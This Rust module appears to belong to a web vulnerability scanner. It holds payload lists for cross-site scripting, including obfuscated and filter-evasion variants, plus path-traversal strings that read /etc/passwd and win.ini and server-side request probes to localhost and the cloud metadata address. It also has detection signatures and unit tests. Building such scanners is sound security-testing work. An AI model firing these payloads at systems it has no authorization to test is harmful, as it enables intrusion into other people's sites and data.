//! Attack string catalogs
//!
//! Everything here is fixed at compile time except the marker, which is
//! drawn once per scanner instance and baked into the stored-XSS payloads.

use rand::distributions::Alphanumeric;
use rand::Rng;
use std::fmt;

/// Per-scan random token used to tell our own payloads apart from
/// coincidental page content.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Marker(String);

impl Marker {
    pub const LEN: usize = 8;

    pub fn random() -> Self {
        let token: String = rand::thread_rng()
            .sample_iter(&Alphanumeric)
            .take(Self::LEN)
            .map(char::from)
            .collect();
        Self(token)
    }

    /// Fixed marker, for reproducible runs.
    pub fn from_token(token: impl Into<String>) -> Self {
        Self(token.into())
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The `XSS-<marker>` string searched for after a stored submission.
    pub fn tag(&self) -> String {
        format!("XSS-{}", self.0)
    }

    pub fn email(&self) -> String {
        format!("test-{}@example.com", self.0)
    }
}

impl fmt::Display for Marker {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

pub const BASIC_XSS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "'\"><script>alert('XSS')</script>",
];

pub const ADVANCED_XSS: &[&str] = &[
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<img src=x onerror=eval(atob('YWxlcnQoJ1hTUycpOw=='))>",
    "<svg><animate onbegin=alert('XSS') attributeName=x dur=1s>",
    "<body onload=alert('XSS')>",
    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
    "<details open ontoggle=alert('XSS')>",
    "<marquee onstart=alert('XSS')>",
    "javascript:/*--></title></style></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<svg><script>alert('XSS')</script></svg>",
    "<svg><script>alert&DiacriticalGrave;1&DiacriticalGrave;</script></svg>",
    "<img src=1 href=1 onerror=\"javascript:alert('XSS')\">",
];

/// Attribute breakouts that add an event handler to the enclosing tag.
pub const EVENT_HANDLER_XSS: &[&str] = &[
    "\" onmouseover=\"alert('XSS')\" \"",
    "\" onfocus=\"alert('XSS')\" autofocus \"",
    "\" onblur=\"alert('XSS')\" autofocus \"",
    "\" onkeydown=\"alert('XSS')\" \"",
    "\" onload=\"alert('XSS')\" \"",
    "\" onerror=\"alert('XSS')\" \"",
];

/// Resolved against the page URL, so each is either a fragment or a
/// replacement query string.
pub const DOM_XSS: &[&str] = &[
    "#<img src=x onerror=alert('XSS')>",
    "#<script>alert('XSS')</script>",
    "#javascript:alert('XSS')",
    "#'-alert('XSS')-'",
    "#'-alert(document.domain)-'",
    "#<svg/onload=alert('XSS')>",
    "?name=<img src=x onerror=alert('XSS')>",
    "?q=<script>alert('XSS')</script>",
    "?search=<svg/onload=alert('XSS')>",
    "?id=<img src=x onerror=alert('XSS')>",
    "?returnUrl=javascript:alert('XSS')",
    "?returnUrl=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk7PC9zY3JpcHQ+",
];

pub const DOM_SINKS: &[&str] = &[
    "document.URL",
    "document.documentURI",
    "document.URLUnencoded",
    "document.baseURI",
    "location",
    "location.href",
    "location.search",
    "location.hash",
    "location.pathname",
    "document.cookie",
    "document.referrer",
    "window.name",
    "history.pushState",
    "history.replaceState",
    "localStorage",
    "sessionStorage",
    "eval",
    "setTimeout",
    "setInterval",
    "document.write",
    "document.writeln",
    "innerHTML",
    "outerHTML",
    "insertAdjacentHTML",
    "jQuery.html",
    "$",
];

pub const LFI_PAYLOADS: &[&str] = &[
    "../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "..\\..\\windows\\win.ini",
];

pub const LFI_SIGNATURES: &[&str] = &["root:x", "[extensions]"];

pub const SSRF_PAYLOADS: &[&str] = &[
    "http://127.0.0.1",
    "http://localhost",
    "http://169.254.169.254",
];

pub const SSRF_SIGNATURES: &[&str] = &["root:x", "meta-data"];

/// Seven payloads, each carrying `XSS-<marker>`.
pub fn stored_xss(marker: &Marker) -> Vec<String> {
    let tag = marker.tag();
    vec![
        format!("<script>console.log('{}')</script>", tag),
        format!("<img src=x onerror=console.log('{}')>", tag),
        format!("<svg onload=console.log('{}')>", tag),
        format!("<div id='{}'>XSS Test</div>", tag),
        format!("<!--{}-->", tag),
        format!("<script>alert('{}')</script>", tag),
        format!("<img src=x onerror=alert('{}')>", tag),
    ]
}

/// Payload tier for a surface, by field type.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Escalation {
    /// Advanced and evasion payloads.
    Advanced,
    /// Attribute breakouts only.
    EventHandler,
    None,
}

impl Escalation {
    pub fn for_field_type(field_type: &str) -> Self {
        match field_type {
            "text" | "search" | "url" | "email" | "textarea" => Escalation::Advanced,
            "hidden" => Escalation::EventHandler,
            _ => Escalation::None,
        }
    }

    pub fn payloads(&self) -> &'static [&'static str] {
        match self {
            Escalation::Advanced => ADVANCED_XSS,
            Escalation::EventHandler => EVENT_HANDLER_XSS,
            Escalation::None => &[],
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_marker_is_alphanumeric_and_fixed_length() {
        let marker = Marker::random();
        assert_eq!(marker.as_str().len(), Marker::LEN);
        assert!(marker.as_str().chars().all(|c| c.is_ascii_alphanumeric()));
    }

    #[test]
    fn test_stored_payloads_embed_marker() {
        let marker = Marker::from_token("ABC12345");
        let payloads = stored_xss(&marker);
        assert_eq!(payloads.len(), 7);
        assert!(payloads.iter().all(|p| p.contains("XSS-ABC12345")));
        assert_eq!(marker.email(), "test-ABC12345@example.com");
    }

    #[test]
    fn test_escalation_by_field_type() {
        assert_eq!(Escalation::for_field_type("search"), Escalation::Advanced);
        assert_eq!(Escalation::for_field_type("hidden"), Escalation::EventHandler);
        assert_eq!(Escalation::for_field_type("password"), Escalation::None);
        assert_eq!(Escalation::Advanced.payloads().len(), 11);
        assert_eq!(Escalation::EventHandler.payloads().len(), 6);
        assert_eq!(DOM_XSS.len(), 12);
    }
}
